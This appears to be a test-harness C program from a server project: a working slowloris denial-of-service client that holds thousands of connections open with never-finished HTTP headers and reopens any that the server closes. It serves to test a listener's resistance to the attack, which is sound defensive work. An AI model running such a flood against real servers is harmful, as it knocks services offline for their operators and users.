/* slowloris: the hostile client of the listener tests. Opens N connections to HOST:PORT, sends
 * the start of a request header on each and then one more header line per connection every
 * INTERVAL ms, never finishing the header (the slowloris attack). It counts the connections the
 * server closed and, with --reconnect, opens them again (a real attacker does).
 *
 * usage: slowloris HOST PORT N [--interval MS] [--reconnect] [--status FILE]
 *
 * --status FILE is rewritten about once a second with "open O closed C attempts A" so a test can
 * wait until the flood is in place. SIGTERM (or SIGINT) closes every connection and exits 0:
 * the moment "the attacker left" in the tests. Connections still in the server's listen
 * backlog count as open (the handshake completed). */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNS 20000

static volatile sig_atomic_t quit;
static struct sockaddr_in peer;
static int fds[MAX_CONNS];
static char started[MAX_CONNS]; /* the request line went out on fds[i] */
static int nconns, reconnect_closed;
static unsigned long long closed, attempts;

static void on_term(int s)
{
    (void)s;
    quit = 1;
}

static long long now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

/* A non-blocking connect; the header start is sent once the connection is writable. */
static int open_one(void)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return -1;
    attempts++;
    if (connect(fd, (struct sockaddr *)&peer, sizeof peer) && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

/* Sends s on fd: 1 sent, 0 not yet (still connecting, or the send buffer is full: the next
 * round tries again), -1 the connection failed. */
static int send_str(int fd, const char *s)
{
    ssize_t n = send(fd, s, strlen(s), MSG_NOSIGNAL);
    if (n < 0 && (errno == EAGAIN || errno == EINPROGRESS || errno == ENOTCONN))
        return 0;
    return n < 0 ? -1 : 1;
}

/* One round: a header line on every connection, closed ones noticed (and reopened). */
static void round_trip(void)
{
    char line[64];
    for (int i = 0; i < nconns; i++) {
        if (fds[i] < 0) {
            if (reconnect_closed) {
                fds[i] = open_one();
                started[i] = 0;
            }
            continue;
        }
        char b[256];
        ssize_t r = recv(fds[i], b, sizeof b, MSG_DONTWAIT);
        int dead = r == 0 || (r < 0 && errno != EAGAIN && errno != ENOTCONN);
        if (!started[i])
            snprintf(line, sizeof line, "GET / HTTP/1.1\r\nHost: slow\r\n");
        else
            snprintf(line, sizeof line, "X-Slow-%d: 1\r\n", i);
        if (!dead && r < 0) {
            int sent = send_str(fds[i], line);
            dead = sent < 0;
            started[i] |= sent > 0;
        }
        if (dead || r > 0) { /* an answer (408/400) ends the connection too */
            close(fds[i]);
            fds[i] = -1;
            closed++;
        }
    }
}

static void write_status(const char *path)
{
    if (!path)
        return;
    int open = 0;
    for (int i = 0; i < nconns; i++)
        open += fds[i] >= 0;
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s.tmp", path);
    FILE *f = fopen(tmp, "w");
    if (!f)
        return;
    fprintf(f, "open %d closed %llu attempts %llu\n", open, closed, attempts);
    fclose(f);
    rename(tmp, path);
}

/* Waits until every pending connect finished (or 10 s), so "open" means established. */
static void wait_connected(void)
{
    long long until = now_ms() + 10000;
    for (int i = 0; i < nconns && now_ms() < until; i++) {
        struct pollfd p = {.fd = fds[i], .events = POLLOUT};
        if (fds[i] >= 0 && poll(&p, 1, (int)(until - now_ms())) == 1 && (p.revents & POLLERR)) {
            close(fds[i]);
            fds[i] = -1;
        }
    }
}

int main(int argc, char **argv)
{
    if (argc < 4) {
        fprintf(stderr, "usage: slowloris HOST PORT N [--interval MS] [--reconnect] "
                        "[--status FILE]\n");
        return 2;
    }
    peer.sin_family = AF_INET;
    peer.sin_port = htons((uint16_t)atoi(argv[2]));
    nconns = atoi(argv[3]);
    if (inet_pton(AF_INET, argv[1], &peer.sin_addr) != 1 || nconns < 1 || nconns > MAX_CONNS)
        return 2;
    int interval = 1000;
    const char *status = NULL;
    for (int i = 4; i < argc; i++) {
        if (!strcmp(argv[i], "--interval") && i + 1 < argc)
            interval = atoi(argv[++i]);
        else if (!strcmp(argv[i], "--reconnect"))
            reconnect_closed = 1;
        else if (!strcmp(argv[i], "--status") && i + 1 < argc)
            status = argv[++i];
        else
            return 2;
    }
    signal(SIGTERM, on_term);
    signal(SIGINT, on_term);
    for (int i = 0; i < nconns; i++)
        fds[i] = open_one();
    wait_connected();
    round_trip();
    write_status(status);
    while (!quit) {
        long long next = now_ms() + (interval > 0 ? interval : 1000);
        while (!quit && now_ms() < next)
            usleep(20000);
        round_trip();
        write_status(status);
    }
    for (int i = 0; i < nconns; i++)
        if (fds[i] >= 0)
            close(fds[i]);
    return 0;
}
